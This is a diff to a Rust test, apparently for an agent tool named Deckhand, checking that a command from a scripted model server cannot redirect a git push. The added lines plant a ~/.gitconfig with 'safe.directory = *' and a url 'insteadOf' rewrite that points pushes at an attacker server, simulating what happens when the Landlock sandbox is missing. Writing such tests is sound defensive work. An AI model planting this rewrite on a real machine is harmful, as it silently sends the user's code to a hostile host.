@@ -154,6 +154,18 @@ fn a_command_cannot_redirect_the_push_or_the_worktree_bookkeeping() {
         model: ModelServer::start(script(&command.replace("SERVER", &w.gh.server_url()))),
         ..w
     };
+    // Where Landlock is missing a command can write Deckhand's own
+    // ~/.gitconfig (with it, `--global` above lands in the command's private
+    // home): plant the same rewrite there as that command would.
+    std::fs::write(
+        home.join(".gitconfig"),
+        format!(
+            "[safe]\n\tdirectory = *\n[url \"{}/\"]\n\tinsteadOf = {}/\n",
+            attacker.server_url(),
+            w.gh.server_url()
+        ),
+    )
+    .unwrap();
     let workspace = w.dir.path().join("workspace");
     std::fs::create_dir_all(&workspace).unwrap();
     let (run, outputs) = action(&w, &home, &workspace);
